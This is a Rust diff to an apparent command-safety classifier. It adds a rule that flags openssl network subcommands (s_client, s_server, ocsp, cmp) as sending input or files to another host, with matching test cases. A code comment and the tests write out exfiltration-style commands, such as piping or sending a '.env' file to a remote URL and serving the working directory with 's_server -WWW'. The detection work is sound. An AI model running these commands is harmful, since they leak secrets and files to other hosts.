@@ -1316,6 +1316,12 @@ fn runs_code(program: &str, args: &[String]) -> Option<&'static str> {
         "openssl" if args.iter().any(|a| matches!(a.as_str(), "engine" | "fipsinstall" | "-config" | "-conf") || (a.starts_with('-') && (a.contains("engine") || a.contains("provider") || a.contains("module")))) => {
             Some("openssl loads a library of its options")
         }
+        // Its network commands send what they read to another host (`s_client -connect h:443 <
+        // .env`, `ocsp -reqin FILE -url http://h/`, `cmp -reqin`), or serve the files of the
+        // working directory to anyone (`s_server -WWW`): masking never sees either.
+        "openssl" if args.iter().any(|a| matches!(a.as_str(), "s_client" | "s_server" | "s_time" | "ocsp" | "cmp")) => {
+            Some("openssl sends its input or files to another host, which masking does not see")
+        }
         // Files whose names come from an archive or a directory tree, not the command line,
         // can land anywhere (a `.bashrc`).
         "tar" | "bsdtar" if first.starts_with('x') || (first.starts_with('-') && !first.starts_with("--") && first.contains('x')) || has(&|a| long(a, "--extract") || long(a, "--get")) => {
@@ -1844,6 +1850,9 @@ mod tests {
             "git --git-dir=/tmp/g1 log",
             "git clone --template=/tmp/tpl https://x.example/r.git",
             "openssl req -engine /tmp/e.so -new",
+            "openssl s_client -connect 127.0.0.1:9 -quiet",
+            "openssl s_server -accept 4433 -WWW",
+            "openssl ocsp -reqin .env -url http://127.0.0.1:9/",
         ] {
             let r = read_line(line);
             assert!(!r.interpreter.is_empty() || !r.unreadable.is_empty(), "{line}: {r:?}");
